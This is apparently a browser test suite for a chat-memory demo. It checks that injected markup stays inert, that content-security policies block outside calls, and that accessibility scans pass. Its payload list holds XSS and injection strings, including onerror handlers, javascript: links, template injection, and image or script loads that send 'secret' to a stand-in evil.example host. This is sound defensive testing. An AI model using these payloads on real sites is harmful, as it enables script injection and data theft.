// The demo under attack and under a screen reader: markup from everywhere stays text and calls nobody, the policies hold, and
// axe finds nothing serious in any view, theme or size.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";
import { after, before, test } from "node:test";
import { PAGE_POLICY } from "../../scripts/demo-policy.mjs";
import { serve } from "../../scripts/serve.mjs";
import { bundleDemo } from "../../scripts/www.mjs";
import { launchBrowser } from "./browser.mjs";
import { startModelServer, turnOnModel } from "./model-server.mjs";

const root = fileURLToPath(new URL("../..", import.meta.url));

/** Row 64 of docs/reliability.md: what would load, run or lead somewhere if it were more than text. */
const PAYLOADS = [
  `<img src=x onerror="window.pwned=1">`,
  "[x](javascript:window.pwned=1)",
  "![](https://evil.example/?q=secret)",
  `<svg><image href="https://evil.example/i.png" onload="window.pwned=1"></svg><svg onload="window.pwned=1">`,
  `<math><mtext><style><img src="https://evil.example/m.png" onerror="window.pwned=1"></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/o"></object>`,
  `<link rel=stylesheet href="https://evil.example/s.css"><style>@import url(https://evil.example/t.css);</style>`,
  `<a href="javascript:window.pwned=1" ping="https://evil.example/p">x</a><form action="https://evil.example/f"><button>y</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">`,
  `"><script src="https://evil.example/x.js"></script><script>window.pwned=1</script>`,
  "[a]: https://evil.example/ref.png\n\n![a][a] [b](data:text/html,<script>window.pwned=1</script>) [c](vbscript:x) <https://evil.example/auto>",
  `{{constructor.constructor("window.pwned=1")()}} \${window.pwned=1} <%= pwned %>`,
];
/** `npm run test:long -- demo`: every theme by every rule, and nesting as deep as row 64 says. */
const IS_WHOLE = process.env.DEMO_SAFETY === "whole";
const COMBINATIONS = IS_WHOLE
  ? [[1280, 800, "light"], [1280, 800, "dark"], [390, 844, "light"], [390, 844, "dark"]]
  : [[1280, 800, "light"], [1280, 800, "dark"], [390, 844, "dark"]];
const DEPTH = IS_WHOLE ? 100_000 : 5_000;
const VIEWS = ["chat", "context", "memory", "race", "import", "privacy", "benchmark", "models"];

let browser;
let context;
let page;
let server;
let model;
const foreign = [];
const errors = [];

const ready = () => page.waitForSelector('#status[data-kind="ready"]');

before(async () => {
  await bundleDemo();
  server = await serve({ port: 0 });
  model = await startModelServer();
  browser = await launchBrowser();
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  context.on("request", (request) => {
    if (![server.url, new URL(model.url).origin, "data:"].some((own) => request.url().startsWith(own))) foreign.push(request.url());
  });
  // The debugger tells of what the policy stops, too, before it is stopped.
  context.on("requestfailed", (request) => {
    if (request.failure().errorText === "csp") foreign.splice(foreign.indexOf(request.url()), 1);
  });
  page = await context.newPage();
  page.on("pageerror", (error) => errors.push(String(error)));
  page.on("dialog", (dialog) => {
    errors.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    globalThis.violations = [];
    document.addEventListener("securitypolicyviolation", ({ blockedURI, violatedDirective }) => globalThis.violations.push(`${violatedDirective} ${blockedURI}`));
  });
  await page.goto(server.url);
  await ready();
});

after(async () => {
  await browser?.close();
  await server?.close();
  await model?.close();
});

/** Nothing ran, nothing was loaded, nothing was even tried. */
async function unharmed(where) {
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined, where);
  assert.deepEqual(await page.evaluate(() => globalThis.violations), [], where);
  assert.equal(await page.locator("img, iframe, object, embed, base, form[action], link[href^='http'], svg [href], svg image, math, [onerror], [onload], [srcdoc], [ping]").count(), 0, where);
  const leading = await page.locator("a[href]").evaluateAll((all) => all.filter(({ protocol, rel }) => !["http:", "https:", "mailto:"].includes(protocol) || (protocol === "https:" && !rel.includes("noopener"))).map(({ href }) => href));
  assert.deepEqual(leading, [], where);
  assert.deepEqual(foreign, [], where);
}

test("row 64: pasted as messages, as a title, as facts, and in a file that is imported", async () => {
  await page.fill("#question", PAYLOADS.join("\n\n"));
  await page.locator("#add-message:visible, #ask:visible").first().click();
  await page.waitForFunction(() => document.querySelector(".message")?.textContent.includes("onerror"));
  await unharmed("messages");
  await page.evaluate(async (payloads) => {
    const { createMemory, indexedDbStorage } = await import("/throughline/index.js");
    const memory = await createMemory({ userId: "demo", storage: indexedDbStorage({ name: "throughline-demo" }) });
    for (const [index, payload] of payloads.entries()) {
      await memory.facts.add({ fact: payload, category: "preference", suggested: index % 2 === 0 }).catch(() => undefined);
      await memory.conversations.create({ id: payload.slice(0, 100), title: payload, projectId: payload.slice(0, 60) });
    }
    await memory.close();
  }, PAYLOADS);
  await page.click("#nav-memory");
  await page.waitForSelector(".fact");
  await page.evaluate(() => document.querySelectorAll("details").forEach((each) => (each.open = true)));
  await page.fill("#recall-query", "onerror evil.example");
  await page.click("#recall-go");
  await page.waitForSelector("#recalled .hits li");
  await unharmed("facts, titles and what is recalled");
  await page.click("#nav-import");
  const buffer = Buffer.from(JSON.stringify({ title: PAYLOADS[0], messages: PAYLOADS.map((content, index) => ({ id: `${content}${index}`.slice(0, 200), role: index % 2 ? "assistant" : "user", name: content.slice(0, 50), content })) }));
  await page.setInputFiles("#import-file", { name: PAYLOADS[0], mimeType: "application/json", buffer });
  await page.waitForFunction(() => document.querySelectorAll(".message").length >= 10);
  await unharmed("an imported file");
  await page.setInputFiles("#import-file", { name: PAYLOADS[0], mimeType: "application/json", buffer: Buffer.from(`{"mapping": "${PAYLOADS[0].replaceAll('"', "'")}"`) });
  await page.waitForSelector('#status[data-kind="error"], #import-report');
  await unharmed("a file that is refused");
});

test("row 64: a model's answers, in the chat and to the memory", async () => {
  model.state.says = PAYLOADS.join("\n\n");
  const items = Object.fromEntries(["goal", "confirmed", "decisions", "constraints", "failed", "open", "next", "identifiers"].map((name) => [name, PAYLOADS.slice(0, 4).map((each) => each.slice(0, 120))]));
  model.state.purposes = { summarize: items, compress: items, episode: items };
  await page.evaluate(() => document.querySelector("#import-report")?.close());
  await turnOnModel(page, model.url);
  await unharmed("the list of models");
  await page.click("#nav-chat");
  await page.fill("#question", `What did they say about ${PAYLOADS[0]}?`);
  await page.click("#ask");
  await page.waitForFunction(() => [...document.querySelectorAll(".message")].at(-1)?.textContent.includes("constructor") && document.querySelector("#stop").hidden);
  await unharmed("an answer");
  await page.click("#nav-memory");
  await page.evaluate(() => document.querySelectorAll("details").forEach((each) => (each.open = true)));
  await page.click("#compact");
  await page.waitForFunction(() => document.querySelector("#summary-result")?.textContent.length > 0 && document.querySelector("#summary-result").textContent !== "Summarising");
  await page.click("#nav-context");
  await page.evaluate(() => document.querySelectorAll("details").forEach((each) => (each.open = true)));
  await unharmed("a summary and a context");
});

test("the page can call, load and run nothing but its own files, whatever script gets hold of it", async () => {
  const tried = await page.evaluate(async () => {
    // The debugger that runs this may evaluate code; what comes after it may not.
    await new Promise((resolve) => setTimeout(resolve));
    const refused = (action) => Promise.resolve().then(action).then(() => "done", (error) => error.name);
    return {
      fetch: await refused(() => fetch("https://evil.example/")),
      // The address of a model, which only its own worker may call.
      local: await refused(() => fetch("http://127.0.0.1:9/")),
      markup: await refused(() => (document.createElement("p").innerHTML = "<b>x</b>")),
      script: await refused(() => (document.createElement("script").src = "/dist/app.js")),
      worker: await refused(() => new Worker("/throughline/import/import-worker.js")),
      policy: await refused(() => globalThis.trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
      code: await refused(() => new Function("return 1")()),
      beacon: String(globalThis.navigator.sendBeacon("https://evil.example/")),
      image: await new Promise((resolve) => Object.assign(new globalThis.Image(), { onerror: () => resolve("error"), onload: () => resolve("loaded"), src: "https://evil.example/i.png" })),
    };
  });
  assert.deepEqual({ ...tried, beacon: undefined, code: undefined }, { fetch: "TypeError", local: "TypeError", markup: "TypeError", script: "TypeError", worker: "TypeError", policy: "TypeError", image: "error", beacon: undefined, code: undefined });
  assert.notEqual(tried.code, "done");
  assert.deepEqual(foreign, []);
  const violations = await page.evaluate(() => globalThis.violations.splice(0));
  assert.ok(violations.length >= 6, violations.join("\n"));
});

test("the policy in the page is that of the server, and each worker's is as narrow as its task", async () => {
  const html = readFileSync(`${root}/www/index.html`, "utf8");
  assert.ok(html.includes(`content="${PAGE_POLICY}"`));
  const policy = async (path) => (await fetch(server.url + path)).headers.get("content-security-policy");
  assert.equal(await policy("/"), `${PAGE_POLICY}; frame-ancestors 'none'`);
  assert.equal(await policy("/throughline/import/import-worker.js"), `${PAGE_POLICY}; frame-ancestors 'none'`);
  const connect = async (path) => /connect-src ([^;]*)/.exec(await policy(path))[1];
  assert.equal(await connect("/dist/outside-worker.js"), "https: http://localhost:* http://127.0.0.1:*");
  assert.doesNotMatch(await policy("/dist/outside-worker.js"), /unsafe|\*;|data:/);
  for (const path of ["/dist/webllm-worker.js", "/dist/transformers-worker.js"]) {
    for (const source of (await connect(path)).split(" ")) assert.match(source, /^https:\/\/[a-z.*/@0-9-]+$/i);
  }
});

test("a model's files are called for only after the click that says from where", async () => {
  const called = [];
  await context.route(/huggingface\.co|jsdelivr\.net/, (route) => {
    called.push(new URL(route.request().url()).host);
    void route.fulfill({ status: 404, headers: { "access-control-allow-origin": "*" }, body: "" });
  });
  await page.click("#nav-models");
  assert.match(await page.textContent("#card-embedder"), /huggingface\.co and cdn\.jsdelivr\.net when you say so/);
  assert.deepEqual(called, []);
  await page.click("#embedder-on");
  await page.waitForFunction(() => document.querySelector("#embedder-result").textContent.startsWith("Not turned on"));
  assert.ok(called.length > 0 && called.every((host) => host === "cdn.jsdelivr.net"), called.join());
  await page.click("#nav-privacy");
  await page.waitForSelector('#requests-detail [data-origin="https://cdn.jsdelivr.net"]');
  // WebLLM, in a page that says that it has a graphics card.
  const other = await context.newPage();
  await other.addInitScript(() => Object.defineProperty(globalThis.navigator, "gpu", { value: { requestAdapter: async () => ({}) } }));
  await other.goto(`${server.url}/#view=models`);
  await other.waitForSelector("#webllm-on");
  assert.match(await other.textContent("#webllm-state"), /from huggingface\.co and raw\.githubusercontent\.com when you say so/);
  const before = called.length;
  await other.click("#webllm-on");
  await other.waitForFunction(() => document.querySelector("#webllm-result").textContent !== "" && !document.querySelector("#webllm-model").disabled);
  assert.deepEqual([...new Set(called.slice(before))].filter((host) => host !== "huggingface.co"), []);
  assert.ok(await other.evaluate(() => performance.getEntriesByType("resource").some(({ name }) => name.endsWith("/dist/webllm-worker.js"))));
  await other.close();
  await context.unroute(/huggingface\.co|jsdelivr\.net/);
  foreign.length = 0;
});

/** What axe finds that is serious: by all its rules, or by those of colours alone, which a theme changes and nothing else does. */
async function seriousFindings(where, isAboutColours) {
  const found = await page.evaluate(async (colours) => {
    const runOnly = colours ? { type: "rule", values: ["color-contrast", "link-in-text-block"] } : { type: "tag", values: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] };
    const { violations } = await globalThis.axe.run(document, { resultTypes: ["violations"], preload: false, runOnly });
    // A segment of the bar is as wide as its share; its entry in the legend does the same, and is large enough.
    for (const each of violations) each.nodes = each.nodes.filter(({ html }) => each.id !== "target-size" || !html.includes('class="segment"'));
    return violations.filter(({ impact, nodes }) => nodes.length > 0 && (impact === "serious" || impact === "critical"))
      .map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map(({ target, failureSummary }) => `${target.join(" ")} (${failureSummary.split("\n").at(1)?.trim()})`).join(", ")}`);
  }, isAboutColours);
  return found.map((each) => `${where}: ${each}`);
}

test("axe finds nothing serious in any view, theme or size, nor in a dialog", async (t) => {
  await page.evaluate(readFileSync(createRequire(new URL("../../www/package.json", import.meta.url)).resolve("axe-core/axe.min.js"), "utf8"));
  await page.evaluate(() => document.querySelector("#import-report")?.close());
  const found = [];
  for (const [width, height, colorScheme] of COMBINATIONS) {
    await page.setViewportSize({ width, height });
    await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
    // A theme changes colours and nothing else.
    const isAboutColours = !IS_WHOLE && width === 1280 && colorScheme === "dark";
    for (const view of VIEWS) {
      await page.click(`#nav-${view}`);
      await page.waitForSelector(view === "chat" ? "#transcript" : `#view-${view}:not([hidden]) *`);
      found.push(...(await seriousFindings(`${view}, ${width}, ${colorScheme}`, isAboutColours)));
    }
    await page.click("#nav-privacy");
    await page.click("#encrypt");
    found.push(...(await seriousFindings(`dialog, ${width}, ${colorScheme}`, isAboutColours)));
    await page.click("#passphrase-refuse");
  }
  for (const each of found) t.diagnostic(each);
  assert.deepEqual(found, []);
});

test("lists and quotes nested without end neither freeze nor break the page", async () => {
  model.state.says = `${"> ".repeat(DEPTH)}deep\n\n${"- ".repeat(DEPTH)}deep\n\n${Array.from({ length: DEPTH / 10 }, (_, index) => `${"  ".repeat(index % 300)}- x`).join("\n")}\n\n${"*".repeat(DEPTH)}end`;
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.click("#nav-chat");
  await page.fill("#question", "Nest as deep as you can");
  await page.click("#ask");
  await page.waitForFunction(() => [...document.querySelectorAll(".message")].at(-1)?.dataset.status === "complete" && document.querySelector("#stop").hidden, undefined, { timeout: 120_000 });
  assert.equal(await page.evaluate(() => 1 + 1), 2);
  await unharmed("nesting");
  model.state.says = "It is 8471.";
});

test("nothing threw", () => assert.deepEqual(errors, []));
